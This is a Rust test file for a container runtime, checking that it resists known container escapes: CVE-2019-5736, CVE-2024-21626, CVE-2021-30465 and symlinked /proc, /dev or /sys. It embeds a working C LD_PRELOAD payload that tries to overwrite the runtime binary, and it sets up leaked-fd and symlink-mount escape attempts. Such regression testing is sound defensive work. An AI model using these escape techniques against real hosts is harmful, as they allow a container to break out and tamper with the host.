//! Known container escapes, each tried for real against the runtime:
//! - CVE-2019-5736: a container that gets hold of the runtime's binary (an image whose program
//!   is a `#!/proc/self/exe` script) cannot write to it;
//! - CVE-2024-21626: `process.cwd` through a leaked fd (/proc/self/fd/N) never leaves the
//!   container;
//! - an image whose /proc, /dev or /sys is a symlink is refused;
//! - CVE-2021-30465: a mount destination through a symlink to `/` or `../../..` lands inside
//!   the rootfs.

mod common;

use std::fs::{self, File};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;
use serde_json::json;

/// While the runtime runs a container, its own binary is read-only to everyone: the runtime
/// re-executed itself from a read-only view of it.
#[test]
fn runtime_runs_from_a_read_only_view_of_its_binary() {
    let ctx = Ctx::new("runtime_runs_read_only");
    let b = ctx.bundle(&["sleep", "30"]);
    let run = ctx.spawn_run(&b);
    ctx.wait_status(&b.id, "running");
    let pid = run.pid() as i32;
    assert!(
        berth_sys::exe::exe_of_is_protected(pid).unwrap(),
        "berth-runtime (pid {pid}) runs from a writable binary"
    );
    let exe = PathBuf::from(format!("/proc/{pid}/exe"));
    let err = fs::OpenOptions::new().append(true).open(&exe).unwrap_err();
    assert!(
        matches!(err.raw_os_error(), Some(libc::EROFS) | Some(libc::ETXTBSY)),
        "{err}"
    );
    ctx.kill(&b.id, "KILL").ok();
    run.wait(CMD_TIMEOUT);
    ctx.assert_nothing_left(&b);
}

/// The payload of the CVE-2019-5736 exploit, preloaded into the runtime binary that the
/// kernel runs for the container's `#!/proc/self/exe` program: it opens /proc/self/exe
/// (O_PATH) and hands the fd to a shell that, once the runtime has exited (no more
/// ETXTBSY), reopens it for writing through /proc/self/fd and appends to it.
const PAYLOAD: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static const char *script =
    "for i in $(seq 1000); do"
    "  if err=$( (echo PWNED >> /proc/self/fd/$1) 2>&1 ); then"
    "    echo 'result: wrote into the runtime binary'; exit;"
    "  fi;"
    "  case $err in *busy*) usleep 10000 ;;"
    "  *) echo \"result: cannot reopen the binary for writing: $err\"; exit ;; esac;"
    "done; echo 'result: the binary stayed busy'";

__attribute__((constructor)) static void payload(void) {
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) { puts("result: cannot open /proc/self/exe"); fflush(stdout); return; }
    if (fork() != 0) return;
    char arg[16];
    snprintf(arg, sizeof arg, "%d", fd);
    unsetenv("LD_PRELOAD");
    execl("/bin/sh", "sh", "-c", script, "sh", arg, (char *)0);
    _exit(127);
}
"#;

/// The dynamic loader and libraries of `bin`, copied into the rootfs at their host paths.
fn copy_libraries(bin: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("run ldd");
    let text = String::from_utf8_lossy(&out.stdout);
    for word in text.split_whitespace().filter(|w| w.starts_with('/')) {
        let dest = rootfs.join(word.trim_start_matches('/'));
        fs::create_dir_all(dest.parent().unwrap()).unwrap();
        fs::copy(word, &dest).unwrap_or_else(|e| panic!("copy {word}: {e}"));
    }
}

fn compile_payload(dir: &Path, rootfs: &Path) {
    let src = dir.join("payload.c");
    fs::write(&src, PAYLOAD).unwrap();
    let out = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(rootfs.join("payload.so"))
        .arg(&src)
        .output()
        .expect("the exploit test needs a C compiler (cc)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// CVE-2019-5736, the real exploit: the container's program is `#!/proc/self/exe`, so the
/// kernel runs the runtime's own binary in the container (with the image's loader and an
/// LD_PRELOAD payload), and the payload writes to that binary after the runtime exits. It
/// runs against a copy of berth-runtime, which must come out unchanged.
#[test]
fn shebang_proc_self_exe_cannot_modify_the_runtime() {
    let ctx = Ctx::new("shebang_proc_self_exe");
    let bin_dir = ctx.new_dir("bin");
    let bin = bin_dir.join("berth-runtime");
    fs::copy(BIN, &bin).unwrap();
    let original = fs::read(&bin).unwrap();

    let mut b = ctx.private_bundle(&["/evil"]);
    copy_libraries(&bin, &b.rootfs);
    compile_payload(&ctx.new_dir("payload"), &b.rootfs);
    fs::write(b.rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(b.rootfs.join("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    b.add_env("LD_PRELOAD=/payload.so");
    // Without a pid namespace the payload's child outlives the container's init.
    b.remove_namespace("pid");
    b.write();
    ctx.track(&b.id);

    // create and start exit, as under containerd: then nothing on the host runs the binary.
    let output = ctx.path().join("container.out");
    let runtime = |args: &[&str], stdout: Stdio| {
        let status = Command::new(&bin)
            .arg("--root")
            .arg(&ctx.root)
            .args(args)
            .env(MARKER_VAR, &b.marker)
            .stdin(Stdio::null())
            .stdout(stdout)
            .status()
            .unwrap();
        assert!(status.success(), "{args:?}: {status}");
    };
    let container_out = File::create(&output).unwrap();
    let bundle = b.dir.to_str().unwrap();
    runtime(&["create", "--bundle", bundle, &b.id], container_out.into());
    runtime(&["start", &b.id], Stdio::null());
    let result = wait_until(Duration::from_secs(20), "the payload's result", || {
        let text = fs::read_to_string(&output).unwrap_or_default();
        text.lines()
            .find(|l| l.starts_with("result: "))
            .map(str::to_string)
    });
    let now = fs::read(&bin).unwrap();
    assert!(
        now == original,
        "the container modified the runtime binary ({result})"
    );
    assert!(
        result.contains("Read-only file system") || result.contains("not permitted"),
        "{result}"
    );
    ctx.wait_status(&b.id, "stopped");
    ctx.delete(&b.id).ok();
    ctx.assert_nothing_left(&b);
}

/// `run` of `b` with the host directory `leak` open on every fd from 3 to 19, not
/// close-on-exec, as a careless caller would leave them to the runtime.
fn run_with_leaked_dirs(ctx: &Ctx, b: &Bundle, leak: &Path) -> (bool, String, String) {
    b.write();
    ctx.track(&b.id);
    let dir = File::open(leak).unwrap();
    let raw = dir.as_raw_fd();
    let out = ctx.new_dir("leak-out");
    let mut cmd = Command::new(BIN);
    cmd.arg("--root")
        .arg(&ctx.root)
        .args(["run", "--bundle", b.dir.to_str().unwrap(), &b.id])
        .env(MARKER_VAR, &b.marker)
        .stdin(Stdio::null())
        .stdout(File::create(out.join("stdout")).unwrap())
        .stderr(File::create(out.join("stderr")).unwrap());
    // SAFETY: only dup2 and fcntl, async-signal-safe, between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            for n in (3..20).filter(|&n| n != raw) {
                if libc::dup2(raw, n) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            libc::fcntl(raw, libc::F_SETFD, 0);
            Ok(())
        })
    };
    let status = cmd.status().unwrap();
    let read = |name: &str| fs::read_to_string(out.join(name)).unwrap_or_default();
    (status.success(), read("stdout"), read("stderr"))
}

/// CVE-2024-21626: with host directories on every fd from 3 to 19 of the runtime, the
/// container's process has none of them open, and `process.cwd` = /proc/self/fd/N fails to
/// start the container or stays inside it (never shows the host directory).
#[test]
fn leaked_fds_never_reach_the_container() {
    let ctx = Ctx::new("leaked_fds_never_reach");
    let host = ctx.new_dir("host-dir");
    fs::write(host.join("host-secret"), "secret").unwrap();

    let b = ctx.bundle(&["ls", "/proc/self/fd"]);
    let (ok, stdout, stderr) = run_with_leaked_dirs(&ctx, &b, &host);
    assert!(ok, "{stderr}");
    // 0-2 and ls's own directory fd.
    let fds: Vec<&str> = stdout.split_whitespace().collect();
    assert!(fds.len() <= 4, "fds leaked into the container: {fds:?}");
    ctx.assert_nothing_left(&b);

    for n in 3..20 {
        let mut b = ctx.bundle(&["sh", "-c", "pwd; ls"]);
        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        let (ok, stdout, stderr) = run_with_leaked_dirs(&ctx, &b, &host);
        if ok {
            assert!(
                !stdout.contains("host-secret") && !stdout.contains("unreachable"),
                "fd {n}: the container's cwd is outside it:\n{stdout}"
            );
        } else {
            assert!(
                stderr.contains("cwd"),
                "fd {n}: failed for another reason:\n{stderr}"
            );
        }
        ctx.assert_nothing_left(&b);
    }
}

/// An image whose `top` (proc, dev or sys) is a symlink, here to a directory inside the
/// rootfs, is refused with an error naming it.
fn symlinked_top_is_refused(name: &str, top: &str) {
    let ctx = Ctx::new(name);
    let b = ctx.private_bundle(&["true"]);
    let top_path = b.rootfs.join(top);
    if top_path.is_dir() {
        fs::remove_dir_all(&top_path).unwrap();
    } else {
        let _ = fs::remove_file(&top_path);
    }
    fs::create_dir_all(b.rootfs.join("elsewhere")).unwrap();
    symlink("/elsewhere", &top_path).unwrap();
    let out = ctx.run(&b);
    out.failed().stderr_has(&format!(
        "/{top} in the rootfs is (or goes through) a symlink"
    ));
    ctx.assert_nothing_left(&b);
}

#[test]
fn proc_symlink_in_the_rootfs_is_refused() {
    symlinked_top_is_refused("proc_symlink_refused", "proc");
}

#[test]
fn dev_symlink_in_the_rootfs_is_refused() {
    symlinked_top_is_refused("dev_symlink_refused", "dev");
}

#[test]
fn sys_symlink_in_the_rootfs_is_refused() {
    symlinked_top_is_refused("sys_symlink_refused", "sys");
}

/// With no /dev mount the image's /dev is used: a /dev symlink is refused there too.
#[test]
fn dev_symlink_without_a_dev_mount_is_refused() {
    let ctx = Ctx::new("dev_symlink_no_dev_mount");
    let mut b = ctx.private_bundle(&["true"]);
    let _ = fs::remove_dir_all(b.rootfs.join("dev"));
    fs::create_dir_all(b.rootfs.join("elsewhere")).unwrap();
    symlink("elsewhere", b.rootfs.join("dev")).unwrap();
    b.config["mounts"]
        .as_array_mut()
        .unwrap()
        .retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"));
    let out = ctx.run(&b);
    out.failed()
        .stderr_has("/dev in the rootfs is (or goes through) a symlink");
    ctx.assert_nothing_left(&b);
}

/// CVE-2021-30465: a bind mount whose destination goes through a symlink to `/` or to
/// `../../..` is resolved as if the rootfs were `/`: it lands inside the rootfs and nothing
/// appears on the host.
#[test]
fn mount_through_a_symlink_to_the_root_stays_inside() {
    let ctx = Ctx::new("mount_through_symlink_to_root");
    let name = format!("berth-escape-test-{}", std::process::id());
    let on_host = Path::new("/").join(&name);
    for target in ["/", "../../.."] {
        let source = ctx.new_dir("source");
        fs::write(source.join("marker"), "from-source\n").unwrap();
        let link = if target == "/" { "link" } else { "a/b/link" };
        let dest = format!("/{link}/{name}");
        let mut b = ctx.private_bundle(&["cat", &format!("{dest}/marker")]);
        fs::create_dir_all(b.rootfs.join("a/b")).unwrap();
        symlink(target, b.rootfs.join(link)).unwrap();
        b.add_mount(
            json!({"destination": dest, "type": "bind", "source": source,
                           "options": ["bind", "ro"]}),
        );
        let out = ctx.run(&b);
        if on_host.exists() {
            // What a runtime without the defense leaves (an empty mount point): clean it up.
            let _ = fs::remove_dir(&on_host);
            panic!("{target}: {} made on the host\n{out}", on_host.display());
        }
        out.ok();
        assert_eq!(out.stdout, "from-source\n", "{out}");
        assert!(
            b.rootfs.join(&name).is_dir(),
            "{target}: the mount point was not made inside the rootfs"
        );
        ctx.assert_nothing_left(&b);
    }
}
